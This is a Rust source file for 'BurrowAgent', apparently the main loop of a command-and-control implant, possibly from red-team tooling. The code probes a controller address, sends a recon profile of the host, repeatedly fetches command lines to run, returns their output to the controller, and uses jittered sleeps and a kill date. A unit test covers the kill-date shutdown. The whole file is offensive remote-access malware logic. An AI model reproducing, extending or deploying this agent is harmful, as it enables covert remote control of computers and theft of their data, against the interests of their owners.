use std::{
    sync::{Arc, RwLock},
    time::Duration,
};

use anyhow::Result;
use burrow::{
    dialects::{self, Dialect},
    settings::Settings,
};
use tracing::{info, warn};

use crate::{commands::Commands, context::Context};

pub mod commands;
pub mod context;
pub mod recon;

/// Startup reachability probe attempts and spacing.
const PROBE_ATTEMPTS: u32 = 5;
const PROBE_DELAY: Duration = Duration::from_secs(5);

pub struct BurrowAgent {
    settings: Settings,
    dialect: Box<dyn Dialect>,
    commands: Commands,
    context: Arc<RwLock<Context>>,
}

impl BurrowAgent {
    pub fn with_settings(settings: Settings) -> Result<Self> {
        let dialect = dialects::from_identity(&settings.agent)?;
        Ok(Self::with_dialect(settings, dialect))
    }

    /// Builds the agent over an explicit dialect; tests script the dialect.
    pub fn with_dialect(settings: Settings, dialect: Box<dyn Dialect>) -> Self {
        let context = Context::new();
        let context = match settings.agent.working_dir.as_deref() {
            Some(dir) => context.starting_in(dir.into()),
            None => context,
        };

        BurrowAgent {
            settings,
            dialect,
            commands: Commands::new(),
            context: Arc::new(RwLock::new(context)),
        }
    }

    /// Runs the poll loop. Returns only once the kill date is reached.
    pub async fn run(&mut self) -> Result<()> {
        info!("BurrowAgent running");

        if self.settings.agent.kill_date_reached() {
            info!("kill date reached, refusing to start");
            return Ok(());
        }

        self.wait_for_controller().await;

        let profile = recon::collect(&self.settings.agent.c2_address);
        match self.dialect.check_in(&profile).await {
            Ok(()) => info!("check-in complete"),
            Err(e) => warn!(error = %e, "check-in failed, continuing"),
        }

        loop {
            if self.settings.agent.kill_date_reached() {
                info!("kill date reached, terminating");
                return Ok(());
            }

            match self.dialect.request_tasking().await {
                Ok(Some(line)) => {
                    info!(command = %line, "tasking received");
                    let output = self
                        .commands
                        .dispatch(&line, Arc::clone(&self.context))
                        .await;
                    if let Err(e) = self.dialect.send_result(&output).await {
                        warn!(error = %e, "result delivery failed");
                    }
                }
                Ok(None) => {}
                Err(e) => warn!(error = %e, "tasking request failed"),
            }

            tokio::time::sleep(self.settings.agent.jittered_sleep()).await;
        }
    }

    /// Not fatal when it never answers; the poll loop keeps trying.
    async fn wait_for_controller(&self) {
        for attempt in 1..=PROBE_ATTEMPTS {
            match self.dialect.probe().await {
                Ok(true) => {
                    info!("controller reachable");
                    return;
                }
                _ => warn!(attempt, max = PROBE_ATTEMPTS, "controller not reachable"),
            }
            if attempt < PROBE_ATTEMPTS {
                tokio::time::sleep(PROBE_DELAY).await;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use std::sync::{
        atomic::{AtomicU32, Ordering},
        Arc,
    };

    use async_trait::async_trait;
    use burrow::{
        messages::HostProfile,
        settings::{AgentIdentity, DialectKind, Settings},
        Result as BurrowResult,
    };

    use super::*;

    struct CountingDialect {
        exchanges: Arc<AtomicU32>,
    }

    #[async_trait]
    impl Dialect for CountingDialect {
        async fn probe(&self) -> BurrowResult<bool> {
            self.exchanges.fetch_add(1, Ordering::SeqCst);
            Ok(true)
        }

        async fn check_in(&mut self, _profile: &HostProfile) -> BurrowResult<()> {
            self.exchanges.fetch_add(1, Ordering::SeqCst);
            Ok(())
        }

        async fn request_tasking(&mut self) -> BurrowResult<Option<String>> {
            self.exchanges.fetch_add(1, Ordering::SeqCst);
            Ok(None)
        }

        async fn send_result(&mut self, _result: &str) -> BurrowResult<()> {
            self.exchanges.fetch_add(1, Ordering::SeqCst);
            Ok(())
        }
    }

    fn settings(kill_date: Option<u32>) -> Settings {
        Settings {
            agent: AgentIdentity {
                c2_address: "10.0.0.5".into(),
                agent_id: "agent-00000001".into(),
                sleep_interval_ms: 10,
                jitter_percent: 0,
                max_retries: 3,
                kill_date,
                working_dir: None,
                debug: false,
                dialect: DialectKind::Minimal,
            },
        }
    }

    #[tokio::test]
    async fn an_expired_kill_date_stops_the_loop_before_any_exchange() {
        let exchanges = Arc::new(AtomicU32::new(0));
        let dialect = CountingDialect {
            exchanges: Arc::clone(&exchanges),
        };

        let mut agent =
            BurrowAgent::with_dialect(settings(Some(20200101)), Box::new(dialect));
        agent.run().await.unwrap();

        assert_eq!(exchanges.load(Ordering::SeqCst), 0);
    }
}
